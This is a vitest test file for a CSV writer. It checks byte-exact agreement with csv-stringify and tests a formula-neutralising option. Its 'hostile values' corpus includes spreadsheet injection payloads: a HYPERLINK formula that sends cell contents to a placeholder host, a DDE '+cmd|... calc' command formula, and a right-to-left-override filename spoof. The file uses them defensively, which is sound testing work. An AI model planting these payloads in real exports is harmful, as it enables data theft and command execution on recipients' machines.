/**
 * The writer (csv-stringify, with rows that need no quoting joined directly) writes exactly what
 * csv-stringify alone writes, in every dialect, including BOM, quoting, embedded quotes, delimiters
 * and line breaks, and with plain and quoted rows interleaved — a value holding a bare CR or LF is
 * always quoted.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { stringify } from 'csv-stringify/sync';
import { CsvFileWriter } from '../../src/pipeline/csv-writer.js';
import type { Dialect } from '../../src/shared/format.js';

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

const VALUES = ['', 'plain', 'a,b', 'say "hi"', 'line\nbreak', 'cr\rhere', 'tab\there', 'semi;colon', 'pipe|bar', ' spaced ', "O'Brien", 'Zoë Ångström 東京', '"', ',', '=1+2', '-5', '\r\n'];

function rowsFor(seed: number, count: number, width: number): string[][] {
  let x = seed;
  const next = (): number => {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    return x;
  };
  return Array.from({ length: count }, () => Array.from({ length: width }, () => VALUES[next() % VALUES.length]!));
}

async function writeWith(dialect: Dialect, header: string[], rows: string[][]): Promise<{ text: Buffer; sha256: string; bytes: number; rows: number }> {
  const dir = mkdtempSync(join(tmpdir(), 'rs-csv-'));
  dirs.push(dir);
  const w = new CsvFileWriter('t.csv', join(dir, 't.csv'), header, dialect);
  for (const [i, r] of rows.entries()) {
    w.add(r);
    if (i % 1000 === 999) await w.ready();
  }
  const done = await w.finish();
  expect(existsSync(join(dir, 't.csv.partial'))).toBe(false);
  return { text: readFileSync(done.path), sha256: done.sha256, bytes: done.bytes, rows: done.rows };
}

function expected(dialect: Dialect, header: string[], rows: string[][]): Buffer {
  const records = dialect.header ? [header, ...rows] : rows;
  return Buffer.from(
    stringify(records, {
      delimiter: dialect.delimiter,
      record_delimiter: dialect.lineEnding === '\r\n' ? 'windows' : 'unix',
      quoted: dialect.quoting === 'always',
      quoted_empty: false,
      bom: dialect.bom,
      eof: true,
      // The old writer left a bare LF unquoted in CRLF files (and a bare CR in LF files), which
      // parsers read as a line break; the encoder quotes any CR or LF, as this option does.
      quote_record_delimiter: true,
    }),
  );
}

describe('CsvFileWriter', () => {
  const dialects: Dialect[] = [
    { delimiter: ',', quoting: 'auto', lineEnding: '\r\n', bom: false, header: true },
    { delimiter: ',', quoting: 'always', lineEnding: '\n', bom: true, header: true },
    { delimiter: '\t', quoting: 'auto', lineEnding: '\n', bom: false, header: true },
    { delimiter: '|', quoting: 'never', lineEnding: '\r\n', bom: true, header: false },
    { delimiter: ';', quoting: 'auto', lineEnding: '\n', bom: false, header: false },
  ];
  for (const dialect of dialects) {
    it(`matches csv-stringify byte for byte (${JSON.stringify(dialect)})`, async () => {
      const header = ['sourcedId', 'name, full', 'say "x"'];
      // Mostly rows without quotes or line breaks (written directly), with rows csv-stringify encodes mixed in.
      const rows = rowsFor(dialect.delimiter.charCodeAt(0), 5000, 3).map((r, i) => (i % 7 === 0 ? r : r.map((v) => v.replace(/["\r\n]/g, ''))));
      const got = await writeWith(dialect, header, rows);
      const want = expected(dialect, header, rows);
      expect(got.text.equals(want)).toBe(true);
      expect(got.bytes).toBe(want.length);
      expect(got.sha256).toBe(createHash('sha256').update(want).digest('hex'));
      expect(got.rows).toBe(5000);
    });
  }

  it('writes nothing (not even a BOM) for a headerless file without rows, and just the header otherwise', async () => {
    const empty = await writeWith({ delimiter: ',', quoting: 'auto', lineEnding: '\n', bom: true, header: false }, ['a'], []);
    expect(empty.text.length).toBe(0);
    const headerOnly = await writeWith({ delimiter: ',', quoting: 'auto', lineEnding: '\r\n', bom: true, header: true }, ['a', 'b'], []);
    expect(headerOnly.text.equals(expected({ delimiter: ',', quoting: 'auto', lineEnding: '\r\n', bom: true, header: true }, ['a', 'b'], []))).toBe(true);
  });

  it('abort leaves neither the partial nor the final file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rs-csv-'));
    dirs.push(dir);
    const w = new CsvFileWriter('t.csv', join(dir, 't.csv'), ['a'], { delimiter: ',', quoting: 'auto', lineEnding: '\n', bom: false, header: true });
    w.add(['x']);
    await w.abort();
    expect(existsSync(join(dir, 't.csv'))).toBe(false);
    expect(existsSync(join(dir, 't.csv.partial'))).toBe(false);
  });
});

/** The hostile-values corpus (hostile-values.ts, bad-input-corpus.test.ts) and what SIS exports hold: every kind of value the fast path must encode as csv-stringify does. */
const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"Click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-5', '+1 (555) 010-0199', '\t=1+1', '\r=1',
  'Ann\u0000', 'Bo\u001b[31m', '\u202Egpj.exe', 'Rodr\uFFFDguez', 'RodrÃ­guez', '000101', '003', '0', '00', ' 007 ', '',
  'a;b', 'G1,G2', '"quoted"', 'say ""hi""', 'trailing\r', '\nleading', 'mid\r\nline', '\u00e9t\u00e9', '\u6771\u4eac',
  '\u{1F600} smile', '\ud83d lone high', 'lone low \ude00', '\u0085 NEL', '\u2028 LS', 'tab\there', '|', ';', '\t', ',',
];

/** A random string of the characters that matter to quoting and UTF-8, from a seeded generator. */
function randomValue(next: () => number): string {
  const pieces = [',', ';', '|', '\t', '"', '\r', '\n', ' ', '0', '7', 'a', 'Z', '=', '+', '-', '@', '\u00e9', '\u20ac', '\u6771', '\u{1F600}', '\ud800', '\udfff', '\u0000', '\u007f'];
  const length = next() % 12;
  let s = '';
  for (let i = 0; i < length; i++) s += pieces[next() % pieces.length]!;
  return s;
}

describe('CsvFileWriter fast path (byte scan into the output Buffer) against csv-stringify', () => {
  const dialects: Dialect[] = [
    { delimiter: ',', quoting: 'auto', lineEnding: '\r\n', bom: false, header: true },
    { delimiter: ',', quoting: 'auto', lineEnding: '\n', bom: true, header: true },
    { delimiter: '\t', quoting: 'auto', lineEnding: '\r\n', bom: false, header: false },
    { delimiter: '|', quoting: 'never', lineEnding: '\n', bom: false, header: true },
    { delimiter: ';', quoting: 'always', lineEnding: '\r\n', bom: true, header: true },
    { delimiter: '||', quoting: 'auto', lineEnding: '\n', bom: false, header: true },
    { delimiter: '\u00a7', quoting: 'auto', lineEnding: '\n', bom: false, header: true },
  ];
  for (const dialect of dialects) {
    it(`hostile values and random strings, byte for byte (${JSON.stringify(dialect)})`, async () => {
      let x = 0x2545f491 ^ dialect.delimiter.charCodeAt(0);
      const next = (): number => {
        x ^= x << 13;
        x ^= x >>> 17;
        x ^= x << 5;
        return x >>> 0;
      };
      const header = ['sourcedId', 'a,b', 'name'];
      const rows: string[][] = HOSTILE.map((v, i) => [v, HOSTILE[(i * 7) % HOSTILE.length]!, `row ${i}`]);
      for (let i = 0; i < 20000; i++) rows.push([randomValue(next), randomValue(next), randomValue(next)]);
      // Values longer than the output chunk (64 KiB), plain and needing quotes.
      rows.push(['x'.repeat(70000), '\u6771'.repeat(30000), 'p,q'.repeat(30000)]);
      rows.push(['"'.repeat(40000), 'y', 'z']);
      const got = await writeWith(dialect, header, rows);
      const want = expected(dialect, header, rows);
      expect(got.text.length).toBe(want.length);
      expect(got.text.equals(want)).toBe(true);
      expect(got.sha256).toBe(createHash('sha256').update(want).digest('hex'));
    });
  }
});

describe('neutraliseFormulas', () => {
  const dialect: Dialect = { delimiter: ',', quoting: 'auto', lineEnding: '\n', bom: false, header: true };

  it('writes formula-like data values with a leading quote, after every transform, and leaves the header and numbers alone', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rs-csv-'));
    dirs.push(dir);
    const w = new CsvFileWriter('t.csv', join(dir, 't.csv'), ['=name', 'phone'], dialect, { neutraliseFormulas: true });
    w.add(['=HYPERLINK("http://x.example","go")', '+1 555 010 0199']);
    w.add(['\t@SUM(A1)', '-5']);
    w.add(['Ann', '+cmd|calc']);
    const done = await w.finish();
    expect(readFileSync(done.path, 'utf8')).toBe(
      '=name,phone\n"\'=HYPERLINK(""http://x.example"",""go"")",+1 555 010 0199\n\'\t@SUM(A1),-5\nAnn,\'+cmd|calc\n',
    );
  });

  it('is off by default: values are written as they are', async () => {
    const { text } = await writeWith(dialect, ['a'], [['=1+2'], ['@x']]);
    expect(text.toString('utf8')).toBe('a\n=1+2\n@x\n');
  });
});
